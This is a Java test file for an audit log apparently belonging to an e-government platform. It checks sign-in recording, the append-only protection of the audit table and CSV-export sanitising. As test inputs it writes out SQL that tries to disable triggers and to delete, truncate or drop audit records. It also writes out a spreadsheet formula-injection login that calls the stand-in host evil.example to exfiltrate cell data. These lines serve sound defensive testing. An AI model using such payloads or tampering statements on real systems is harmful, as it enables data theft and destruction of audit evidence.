package vn.egov.audit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Savepoint;
import java.sql.Statement;
import java.time.Duration;
import javax.sql.DataSource;
import org.flywaydb.core.Flyway;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import vn.egov.identity.IdentityFixtures;
import vn.egov.identity.domain.Account;
import vn.egov.support.EgovTest;
import vn.egov.support.WebSession;

@EgovTest
class AuditLogTest {

    @LocalServerPort
    int port;

    @Autowired
    AuditLog log;

    @Autowired
    IdentityFixtures fixtures;

    @Autowired
    DataSource dataSource;

    @Autowired
    Flyway flyway;

    @Test
    void a_sign_in_and_a_failed_one_are_recorded_with_who_when_and_from_where() {
        Account citizen = fixtures.citizen();
        WebSession browser = new WebSession(port);
        browser.submit(
                browser.get("/sign-in"),
                "/sign-in",
                java.util.Map.of("login", citizen.citizenId(), "password", "Sai-Mat-Khau-1"));
        fixtures.signIn(port, citizen.citizenId(), IdentityFixtures.PASSWORD);

        await().atMost(Duration.ofSeconds(10)).untilAsserted(() -> {
            assertThat(log.search("SIGN_IN_FAILED", citizen.citizenId(), null, null, 0, 10))
                    .singleElement()
                    .satisfies(e -> assertThat(e.actorIp()).isIn("127.0.0.1", "0:0:0:0:0:0:0:1"));
            assertThat(log.search("SIGN_IN_SUCCEEDED", citizen.id().toString(), null, null, 0, 10))
                    .singleElement()
                    .satisfies(e -> {
                        assertThat(e.actor()).isEqualTo(citizen.loginName());
                        assertThat(e.details()).contains("PASSWORD");
                    });
        });
    }

    @Test
    void the_application_itself_cannot_change_remove_or_unprotect_what_was_recorded() throws SQLException {
        await().atMost(Duration.ofSeconds(10)).until(() -> log.count(null, null, null, null) > 0);

        // the platform's own connection, as an injected SQL statement would use it
        try (Connection application = dataSource.getConnection()) {
            application.setAutoCommit(false);
            try {
                assertThat(refusal(
                                application, "alter table audit.audit_entry disable trigger audit_entry_append_only"))
                        .contains("must be owner");
                assertThat(refusal(application, "alter table audit.audit_entry disable trigger all"))
                        .contains("must be owner");
                assertThat(refusal(application, "set session_replication_role = replica"))
                        .contains("permission denied");
                assertThat(refusal(application, "update audit.audit_entry set actor = 'someone else'"))
                        .contains("permission denied");
                assertThat(refusal(application, "delete from audit.audit_entry"))
                        .contains("permission denied");
                assertThat(refusal(application, "truncate audit.audit_entry")).contains("permission denied");
                assertThat(refusal(application, "drop table audit.audit_entry")).contains("must be owner");
            } finally {
                application.rollback();
            }
        }
    }

    @Test
    void recorded_entries_cannot_be_changed_or_removed_even_by_the_owner_of_the_schema() throws SQLException {
        await().atMost(Duration.ofSeconds(10)).until(() -> log.count(null, null, null, null) > 0);

        try (Connection owner = flyway.getConfiguration().getDataSource().getConnection()) {
            owner.setAutoCommit(false);
            try {
                assertThat(refusal(owner, "update audit.audit_entry set actor = 'someone else'"))
                        .contains("append-only");
                assertThat(refusal(owner, "delete from audit.audit_entry")).contains("append-only");
            } finally {
                owner.rollback();
            }
        }
    }

    /** Runs the statement, which must fail, in a savepoint so the next one can run; returns the refusal. */
    private static String refusal(Connection connection, String sql) throws SQLException {
        Savepoint before = connection.setSavepoint();
        try (Statement statement = connection.createStatement()) {
            statement.execute(sql);
        } catch (SQLException refused) {
            connection.rollback(before);
            return refused.getMessage();
        }
        connection.rollback(before);
        throw new AssertionError("allowed: " + sql);
    }

    @Test
    void the_export_gives_what_someone_typed_as_text_a_spreadsheet_never_runs() {
        String login = "=HYPERLINK(\"http://evil.example/?\"&A1;\"Xem\")";
        WebSession stranger = new WebSession(port);
        stranger.submit(
                stranger.get("/sign-in"), "/sign-in", java.util.Map.of("login", login, "password", "Sai-Mat-Khau-1"));
        await().atMost(Duration.ofSeconds(10))
                .until(() -> !log.search("SIGN_IN_FAILED", "HYPERLINK", null, null, 0, 1)
                        .isEmpty());
        var admin = fixtures.official(vn.egov.shared.Role.PROVINCE_ADMIN, "000.00.03.H26", true);
        WebSession province = fixtures.signIn(port, admin.username(), IdentityFixtures.PASSWORD);

        String csv = province.get("/admin/audit/export.csv?action=SIGN_IN_FAILED&q=HYPERLINK")
                .body();

        assertThat(csv).contains("'=HYPERLINK");
        assertThat(csv.lines().skip(1))
                .isNotEmpty()
                .allSatisfy(line -> assertThat(line).doesNotContain(",=").doesNotContain(",\"="));
    }
}
